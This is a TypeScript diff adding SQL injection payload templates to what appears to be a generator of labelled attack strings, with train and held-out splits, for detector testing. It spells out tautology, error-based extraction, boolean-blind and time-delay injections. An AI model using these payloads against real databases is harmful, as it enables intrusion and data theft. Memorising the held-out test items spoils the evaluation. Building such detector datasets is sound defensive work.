@@ -53,6 +53,11 @@ const nulls = (g: GeneratorContext) => Array.from({ length: g.int(1, 6) }, () =>
 const seconds = (g: GeneratorContext) => g.pick([`${g.int(2, 30)}`, "5", "10", "9999"]);
 const host = (g: GeneratorContext) => `${g.word()}.${g.pick(["attacker", "oob", "x", "collab"])}.${g.domain()}`;
 
+// Arithmetic splices: the value ends (after a number, a quote or a parenthesis) and an operator joins a second operand.
+const arithmeticBreak = (g: GeneratorContext) => g.pick([`${g.int()}`, `${g.int()})`, "'", "')", ")", "))", `-${g.int(1, 9)}`]);
+const arithmeticOperator = (g: GeneratorContext) => g.pick(["-", "+", "*", "/", " - ", " + ", " || "]);
+const arithmeticTail = (g: GeneratorContext) => g.pick(["", "", ")", "+'", "-'", "||'", "--", "#", "-- -"]);
+
 function template(family: AttackFamily, name: string, context: PayloadContext, heldOut: boolean, make: (g: GeneratorContext) => string): AttackTemplate {
   return { id: `${family}/${name}`, family, context, heldOut, make };
 }
@@ -70,6 +75,9 @@ export const ATTACK_TEMPLATES: readonly AttackTemplate[] = [
   }),
   template("tautology", "numeric-or", "number", false, (g) => `${numberBreak(g)} ${or(g)} ${tautology(g)}${g.pick(["", "", tail(g)])}`),
   template("tautology", "or-limit", "string", false, (g) => `${stringBreak(g)} ${or(g)} ${tautology(g)} ${g.kw("limit")} ${g.int(1, 5)}${tail(g)}`),
+  // Added in the generalisation round: a logic operator followed by an operand that is
+  // true on its own (a column, an IS NOT NULL test), not by a comparison.
+  template("tautology", "or-truthy-operand", "number", false, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${g.kw("or")} ${g.pick([`${g.int(2, 99)} ${g.kw("is")} ${g.kw("not")} ${g.kw("null")}`, `${g.column()} ${g.kw("is")} ${g.kw("not")} ${g.kw("null")}`, `${g.kw("not")} ${g.column()} ${g.kw("is")} ${g.kw("null")}`, `(${g.int(2, 99)})`])}${g.pick(["", tail(g)])}`),
   template("tautology", "or-boolean-literal", "number", true, (g) => `${breakFor(g, g.pick(["string", "number"]))} ${or(g)} ${g.pick([g.kw("true"), `${g.kw("not")} ${g.kw("false")}`, "1", `${g.kw("not")} 0`])}${g.pick(["", tail(g)])}`),
   template("tautology", "or-in-list", "string", true, (g) => {
     const n = g.int(1, 50);
@@ -96,6 +104,8 @@ export const ATTACK_TEMPLATES: readonly AttackTemplate[] = [
   template("error-based", "cast-to-int", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("cast")}((${subquery(g)}) ${g.kw("as")} ${g.pick(["int", "integer", "numeric"])})${tail(g)}`),
   template("error-based", "oracle-inaddr", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.pick(["utl_inaddr.get_host_name", "ctxsys.drithsx.sn"])}((${subquery(g)}))${tail(g)}`),
   template("error-based", "geometry", "number", false, (g) => `${numberBreak(g)} ${and(g)} ${g.pick(["geometrycollection", "polygon", "multipoint"])}((${g.kw("select")} * ${g.kw("from")}(${g.kw("select")} * ${g.kw("from")}(${subquery(g)})a)b))${tail(g)}`),
+  // Added in the generalisation round: an error-raising function as an operand of arithmetic.
+  template("error-based", "arithmetic-error", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`${g.kw("extractvalue")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)})))`, `${g.kw("updatexml")}(${g.int(1, 9)},${g.kw("concat")}(0x7e,(${subquery(g)})),${g.int(1, 9)})`, `${g.kw("cast")}((${subquery(g)}) ${g.kw("as")} ${g.kw("int")})`])}${arithmeticTail(g)}`),
   template("error-based", "convert-int", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("convert")}(int,(${subquery(g)}))${tail(g)}`),
   template("error-based", "double-query", "string", true, (g) => `${stringBreak(g)} ${and(g)} (${g.kw("select")} 1 ${g.kw("from")}(${g.kw("select")} ${g.kw("count")}(*),${g.kw("concat")}((${subquery(g)}),${g.kw("floor")}(${g.kw("rand")}(0)*2))x ${g.kw("from")} information_schema.tables ${g.kw("group")} ${g.kw("by")} x)a)${tail(g)}`),
   template("error-based", "exp-overflow", "number", true, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("exp")}(~(${g.kw("select")} * ${g.kw("from")} (${subquery(g)})a))${tail(g)}`),
@@ -129,6 +139,9 @@ export const ATTACK_TEMPLATES: readonly AttackTemplate[] = [
   template("boolean-blind", "substring-compare", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick(["substring", "substr", "mid"])}((${subquery(g)}),${g.int(1, 20)},1)='${g.pick([..."abcdefghijklmnopqrstuvwxyz0123456789"])}'${tail(g)}`),
   template("boolean-blind", "length-or-count", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick([`${g.kw("length")}((${subquery(g)}))=${g.int(1, 30)}`, `(${g.kw("select")} ${g.kw("count")}(*) ${g.kw("from")} ${g.table()})>${g.int(0, 9)}`])}${tail(g)}`),
   template("boolean-blind", "and-boolean-literal", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.pick([g.kw("true"), g.kw("false"), `${g.kw("not")} ${g.kw("true")}`])}${tail(g)}`),
+  // Added in the generalisation round: the value becomes an operand of arithmetic whose
+  // other operand asks the question.
+  template("boolean-blind", "arithmetic-condition", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`(${g.kw("select")} ${g.kw("count")}(*) ${g.kw("from")} ${g.table()})`, `${g.kw("if")}(${g.int(1, 9)}=${g.int(1, 9)},1,0)`, `(${subquery(g)})`, `${g.kw("length")}((${subquery(g)}))`])}${arithmeticTail(g)}`),
   template("boolean-blind", "ascii-substr", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("ascii")}(${g.kw("substr")}((${subquery(g)}),${g.int(1, 20)},1))>${g.int(32, 126)}${tail(g)}`),
   template("boolean-blind", "exists-like", "number", true, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("exists")}(${g.kw("select")} * ${g.kw("from")} ${g.table()} ${g.kw("where")} ${g.column()} ${g.kw("like")} '${g.pick([..."abcdefghij"])}%')${tail(g)}`),
   template("boolean-blind", "if-branch", "string", true, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("if")}(${g.int(1, 9)}>${g.int(0, 9)},1,0)${tail(g)}`),
@@ -140,6 +153,8 @@ export const ATTACK_TEMPLATES: readonly AttackTemplate[] = [
   template("time-blind", "benchmark", "number", false, (g) => `${numberBreak(g)} ${and(g)} ${g.kw("benchmark")}(${g.int(1, 9)}000000,${g.pick(["md5", "sha1"])}(${g.int(1, 9)}))${tail(g)}`),
   template("time-blind", "randomblob", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.int(1, 9)}=${g.kw("like")}('abc',${g.kw("upper")}(${g.kw("hex")}(${g.kw("randomblob")}(${g.int(1, 9)}00000000))))${tail(g)}`),
   template("time-blind", "if-sleep", "string", false, (g) => `${stringBreak(g)} ${and(g)} ${g.kw("if")}(${g.int(1, 9)}=${g.int(1, 9)},${g.kw("sleep")}(${seconds(g)}),0)${tail(g)}`),
+  // Added in the generalisation round: a delay function as an operand of arithmetic.
+  template("time-blind", "arithmetic-delay", "number", false, (g) => `${arithmeticBreak(g)}${arithmeticOperator(g)}${g.pick([`pg_sleep(${seconds(g)})`, `(${g.kw("select")} pg_sleep(${seconds(g)}))`, `${g.kw("benchmark")}(${g.int(1, 9)}000000,md5(${g.int(1, 9)}))`, `${g.kw("randomblob")}(${g.int(1, 9)}00000000)`, `${g.kw("if")}(1=1,${g.kw("benchmark")}(${g.int(1, 9)}000000,sha1(1)),0)`])}${arithmeticTail(g)}`),
   template("time-blind", "arithmetic-sleep", "number", true, (g) => `${g.pick([")", "')", `${g.int()})`, "'", `${g.int()}`])}${g.pick(["-", "+", "*"])}${g.kw("sleep")}(${seconds(g)}${g.pick(["", ")", ")#"])}`),
   template("time-blind", "nested-sleep", "string", true, (g) => `${stringBreak(g)} ${and(g)} (${g.kw("select")} * ${g.kw("from")} (${g.kw("select")}(${g.kw("sleep")}(${seconds(g)})))a)${tail(g)}`),
   template("time-blind", "oracle-pipe", "string", true, (g) => `${stringBreak(g)} ${and(g)} 1=dbms_pipe.receive_message(('${g.word()}'),${seconds(g)})${tail(g)}`),
